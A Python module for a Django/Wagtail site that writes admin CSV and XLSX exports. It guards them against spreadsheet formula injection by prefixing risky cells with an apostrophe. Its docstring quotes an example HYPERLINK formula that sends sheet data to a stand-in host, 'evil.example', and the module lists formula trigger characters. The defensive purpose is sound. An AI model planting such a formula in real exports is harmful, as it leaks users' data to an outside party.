"""The one writer of the admin's spreadsheet exports (CSV and XLSX).

Exports carry text typed by the public (a sign-up's name, an application's
motivation) and by editors (page titles). A spreadsheet program runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab, a carriage
return or their full-width forms) as a formula: ``=HYPERLINK("http://evil.example/
?x="&A1,"click")`` sends the sheet's data away when clicked. Every cell written
here passes :func:`neutralise`, which turns such text into plain text with a
leading apostrophe (the OWASP advice). XLSX gets the same text as CSV, so a sheet
saved again as CSV stays safe.

Wagtail's own exports (model listings, its reports, redirects, form submissions)
are routed through this module by :func:`route_wagtail_exports`, called once when
the core app is ready.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from typing import Any, Final

from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.encoding import force_str
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from wagtail.admin.views.mixins import ExcelDateFormatter, SpreadsheetExportMixin

# Characters that make a spreadsheet program read a cell as a formula, with the
# full-width forms that some programs map onto them.
FORMULA_PREFIXES: Final = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
CSV_CONTENT_TYPE: Final = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE: Final = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
)
XLSX_DATETIME_FORMAT: Final = "yyyy-mm-dd hh:mm"
# XLSX bodies stay in memory up to this size, then spill to a temporary file.
XLSX_MEMORY_LIMIT: Final = 8 * 1024 * 1024

Row = Sequence[Any]


def neutralise(value: Any) -> Any:
    """The value, with text that a spreadsheet would run as a formula made inert.

    Text counts as a formula when its first character, or its first character
    after leading white space (some importers trim cells), is in
    :data:`FORMULA_PREFIXES`. Numbers, dates and other values are left as they are.
    """
    if isinstance(value, Promise):
        value = force_str(value)
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_PREFIXES or value.lstrip()[:1] in FORMULA_PREFIXES:
        return "'" + value
    return value


class _Echo:
    """The file-like object csv.writer needs: returns each line instead of storing."""

    def write(self, line: str) -> str:
        return line


def csv_lines(header: Row, rows: Iterable[Row]) -> Iterator[bytes]:
    """The CSV file, one UTF-8 encoded line at a time (rows are read lazily)."""
    writer = csv.writer(_Echo())
    yield writer.writerow([neutralise(cell) for cell in header]).encode()
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row]).encode()


def csv_response(
    filename: str, header: Row, rows: Iterable[Row]
) -> StreamingHttpResponse:
    """A streamed CSV download named ``filename`` (without the extension)."""
    response = StreamingHttpResponse(
        csv_lines(header, rows), content_type=CSV_CONTENT_TYPE
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def _xlsx_value(value: Any) -> Any:
    if isinstance(value, Promise):
        value = force_str(value)
    if isinstance(value, str):
        # Control characters are not allowed in the XML of a sheet: openpyxl
        # would refuse the whole file. Each one is shown as a replacement sign.
        return neutralise(ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        # Excel has no time zones: write the site's local wall-clock time.
        return timezone.make_naive(value)
    if value is None or isinstance(
        value,
        (int, float, decimal.Decimal, datetime.date, datetime.time, datetime.timedelta),
    ):
        return value
    return neutralise(ILLEGAL_CHARACTERS_RE.sub("\ufffd", force_str(value)))


def write_xlsx(
    output: Any,
    header: Row,
    rows: Iterable[Row],
    *,
    datetime_format: str = XLSX_DATETIME_FORMAT,
) -> None:
    """Write a one-sheet workbook to the binary file ``output``, row by row."""
    workbook = Workbook(write_only=True, iso_dates=True)
    sheet = workbook.create_sheet(title="Sheet1")
    sheet.append([_xlsx_value(cell) for cell in header])
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, _xlsx_value(value))
            if isinstance(value, datetime.datetime):
                cell.number_format = datetime_format
            cells.append(cell)
        sheet.append(cells)
    workbook.save(output)


def xlsx_response(
    filename: str,
    header: Row,
    rows: Iterable[Row],
    *,
    datetime_format: str = XLSX_DATETIME_FORMAT,
) -> FileResponse:
    """An XLSX download named ``filename`` (without the extension)."""
    output = tempfile.SpooledTemporaryFile(max_size=XLSX_MEMORY_LIMIT)
    write_xlsx(output, header, rows, datetime_format=datetime_format)
    output.seek(0)
    return FileResponse(
        output,
        as_attachment=True,
        content_type=XLSX_CONTENT_TYPE,
        filename=f"{filename}.xlsx",
    )


# --- Wagtail's spreadsheet exports -------------------------------------------


def _wagtail_rows(
    view: SpreadsheetExportMixin, queryset: Iterable[Any], export_format: str
) -> Iterator[list[Any]]:
    for item in queryset:
        yield [
            view.preprocess_field_value(field, value, export_format)
            for field, value in view.to_row_dict(item).items()
        ]


def _as_spreadsheet(
    view: SpreadsheetExportMixin, queryset: Any, spreadsheet_format: str
) -> StreamingHttpResponse | FileResponse | None:
    """SpreadsheetExportMixin.as_spreadsheet, written by this module's writer."""
    header = [view.get_heading(queryset, field) for field in view.list_export]
    rows = _wagtail_rows(view, queryset, spreadsheet_format)
    if spreadsheet_format == view.FORMAT_CSV:
        return csv_response(view.get_filename(), header, rows)
    if spreadsheet_format == view.FORMAT_XLSX:
        return xlsx_response(
            view.get_filename(),
            header,
            rows,
            datetime_format=ExcelDateFormatter().get(),
        )
    return None


def route_wagtail_exports() -> None:
    """Make every Wagtail view with spreadsheet export write through this module.

    Wagtail's model listings, its reports (site history, aging and locked pages,
    workflows), redirects and form submissions all export through
    ``SpreadsheetExportMixin.as_spreadsheet``; the reports are Wagtail's own views,
    so the one method is replaced on the mixin rather than in each subclass.
    """
    SpreadsheetExportMixin.as_spreadsheet = _as_spreadsheet  # type: ignore[method-assign]
